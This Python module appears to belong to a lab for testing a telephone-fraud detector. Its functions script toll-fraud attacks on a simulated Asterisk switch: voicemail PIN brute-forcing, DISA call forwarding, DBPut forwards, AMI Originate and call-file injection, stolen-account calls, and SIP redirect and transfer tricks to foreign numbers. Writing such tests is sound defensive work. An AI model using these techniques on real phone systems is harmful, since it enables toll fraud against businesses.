"""The attacks of the mission on a real switch, each as one function on a company.

They stop at nothing the switch lets them do, and know nothing of Veilleur. Numbers are made up.
"""

from __future__ import annotations

import random

from lab.company import Company
from lab.configuration import MAIN_NUMBER, RECEPTION, REMOTE_ACCESS_NUMBER, VOICEMAIL_NUMBER
from lab.sip import Sip

ATTACKER = "0037129000001"
HOSTILE_NUMBERS = tuple(f"003712901{n:04d}" for n in range(1000, 1100))
TRIES_PER_CALL = 3  # `maxlogins` of Asterisk: then the attacker rings again


def wrong_pins(company: Company, count: int, mailbox: str = RECEPTION) -> list[str]:
    """So many PINs that do not open the mailbox."""
    chance = random.Random(count)
    found = [f"{chance.randrange(10_000):04d}" for _number in range(count + 1)]
    return [pin for pin in found if pin != company.pins[mailbox]][:count]


def guess_pins(
    company: Company, pins: list[str], mailbox: str = RECEPTION, caller: str = ATTACKER
) -> list[str]:
    """Key PINs for a mailbox over as many calls as it takes, two calls at once; gives what each call saw."""
    running: list[Sip] = []
    seen = []
    for first in range(0, len(pins), TRIES_PER_CALL):
        keys: list[tuple[str, float]] = []
        for pin in pins[first : first + TRIES_PER_CALL]:
            if not keys or not company.mailbox_asked_once:
                keys.append((f"{mailbox}#", 1.0))
            # A wrong one is announced for two seconds when the mailbox is not asked for again.
            keys.append((f"{pin}#", 2.2 if keys[-1][0] != f"{mailbox}#" else 0.7))
        running.append(company.outside_call(VOICEMAIL_NUMBER, caller=caller, keys=tuple(keys), holds_s=0.5))
        if len(running) == 2:
            seen += [call.wait() for call in running]
            running = []
    return seen + [call.wait() for call in running]


def change_pin(company: Company, new_pin: str, mailbox: str = RECEPTION, caller: str = ATTACKER) -> str:
    """Enter with the right PIN and set a new one; gives what the caller saw."""
    right = company.pins[mailbox]
    entry = ((f"{mailbox}#", 0.8), (f"{right}#", 0.5))
    keys = (*entry, ("0", 1.0), ("5", 0.4), (f"{new_pin}#", 0.5), (f"{new_pin}#", 0.5))
    return company.outside_call(VOICEMAIL_NUMBER, caller=caller, keys=keys, holds_s=0.7).wait()


def forward_by_remote_access(company: Company, number: str, pin: str, caller: str = ATTACKER) -> str:
    """Get the company's dial tone with the PIN, and forward the reception by `*21*`.

    The PBX hangs up once it has taken the order, or refuses; else the attacker tries again, more slowly.
    """
    seen = ""
    for patience_s in (0.8, 1.6, 3.0):
        keys = ((f"{pin}#", patience_s), (f"*21*0{number}#", patience_s))
        call = company.outside_call(REMOTE_ACCESS_NUMBER, caller=caller, keys=keys, holds_s=2 * patience_s)
        seen = call.wait()
        if "ended by US" not in seen:
            break
    return seen


def dial_by_remote_access(company: Company, number: str, pin: str, holds_s: float = 2.0) -> str:
    """Call abroad through the company's dial tone (DISA)."""
    keys = ((f"{pin}#", 1.0), (f"0{number}#", 1.0))
    return company.outside_call(REMOTE_ACCESS_NUMBER, caller=ATTACKER, keys=keys, holds_s=holds_s).wait()


def forward_in_database(company: Company, number: str, extension: str = RECEPTION) -> None:
    """Write a forward into the switch's database, as a web page or a script with its password does."""
    company.switch.ask("DBPut", Family="CF", Key=extension, Val=f"0{number}")


def pump(
    company: Company, calls: int, *, holds_s: float = 3.0, per_second: float = 2.0, caller: str = ATTACKER
) -> Sip:
    """Call the company's main number over and over: each call leaves again by the forward."""
    return company.outside_call(
        MAIN_NUMBER, caller=caller, holds_s=holds_s, calls=calls, per_second=per_second
    )


def originate(company: Company, number: str, seconds: int = 3) -> None:
    """A leg straight to the trunk by the manager interface: it never asks the dialplan."""
    company.switch.send(
        "Originate",
        Channel=company.trunk_channel(number),
        Application="Wait",
        Data=str(seconds),
        Async="true",
    )


def call_file(company: Company, number: str, seconds: int = 3) -> None:
    """The same by a call file in the spool."""
    company.switch.drop_call_file(
        f"Channel: {company.trunk_channel(number)}\nApplication: Wait\nData: {seconds}\n"
    )


def call_from_stranger(company: Company, extension: str, number: str, holds_s: float = 3.0) -> Sip:
    """A stolen account calls at once, without registering, from an unknown network address."""
    return company.dial(extension, f"0{number}", holds_s=holds_s, address=company.stranger)


def redirect(company: Company, number: str, extension: str = RECEPTION, holds_s: float = 3.0) -> Sip:
    """A telephone forwards by itself (SIP 302), then an accomplice calls the company."""
    company.redirecting_telephone(extension, f"0{number}")
    return company.outside_call(MAIN_NUMBER, caller=ATTACKER, holds_s=holds_s)


def blind_transfer(company: Company, number: str, extension: str = RECEPTION, holds_s: float = 4.0) -> Sip:
    """A telephone answers an outside caller and sends the call on abroad (SIP REFER)."""
    company.answering_telephone(extension, transfer_to=f"0{number}")
    return company.outside_call(MAIN_NUMBER, caller=ATTACKER, holds_s=holds_s)


def transfer_by_key(company: Company, number: str, holds_s: float = 14.0) -> Sip:
    """A telephone answers an outside caller, calls abroad by the transfer key, and hands over (atxfer)."""
    company.consulting_telephone(RECEPTION, f"0{number}")
    return company.outside_call(MAIN_NUMBER, caller=ATTACKER, holds_s=holds_s)


def attended_transfer(company: Company, number: str, talks_s: float = 1.0, holds_s: float = 8.0) -> Sip:
    """A telephone answers an outside caller, calls abroad itself, and joins the two (REFER with Replaces)."""
    telephone = company.answering_telephone(RECEPTION)
    call = company.outside_call(MAIN_NUMBER, caller=ATTACKER, holds_s=holds_s)
    telephone.wait_for("answered")
    rings = telephone.wait_for(r"rings \S+ \S+ .*tag=\S+").split()
    switch_tag = rings[-1].rpartition("tag=")[2]
    replaces = f"{rings[1]};to-tag={switch_tag};from-tag={rings[2]}"
    company.dial(RECEPTION, f"0{number}", holds_s=talks_s, joins=replaces).wait_for("joined")
    return call
